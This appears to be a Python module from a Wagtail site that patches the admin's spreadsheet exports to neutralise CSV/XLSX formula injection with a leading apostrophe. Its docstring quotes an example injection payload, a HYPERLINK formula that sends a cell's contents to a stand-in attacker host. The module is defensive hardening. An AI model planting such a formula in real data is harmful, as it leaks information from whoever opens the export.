"""Every spreadsheet the platform hands out (CSV or XLSX) passes its cells through `cell()`
(route2020.core.csv_export).

A spreadsheet program runs a cell that starts with `=`, `+`, `-` or `@` as a formula; a name
such as `=HYPERLINK("https://evil.example/?"&B2,"klik")`, typed by anyone at a registration
or sign-up, would then run on the office's computer when it opens an export. A leading
apostrophe makes the cell text (OWASP's advice for CSV injection). XLSX gets the same
treatment: openpyxl already stores such values as text, but a cell re-entered by hand (F2,
Enter) would become a formula again; with the apostrophe it stays text.

Wagtail's own exports (every ModelViewSet's and SnippetViewSet's "Download CSV/XLSX", the
reports in /beheer/reports/, form submissions) go through
`SpreadsheetExportMixin.preprocess_field_value`; `install()` makes that method apply `cell()`
to whatever it produces, so exports of viewsets that other apps add later are covered too.
"""

from functools import wraps

from route2020.core.csv_export import cell


def install():
    """Make Wagtail's spreadsheet export apply `cell()` to every value it writes."""
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    original = SpreadsheetExportMixin.preprocess_field_value
    if getattr(original, "formula_safe", False):
        return

    @wraps(original)
    def preprocess_field_value(self, field, value, export_format):
        return cell(original(self, field, value, export_format))

    preprocess_field_value.formula_safe = True
    SpreadsheetExportMixin.preprocess_field_value = preprocess_field_value
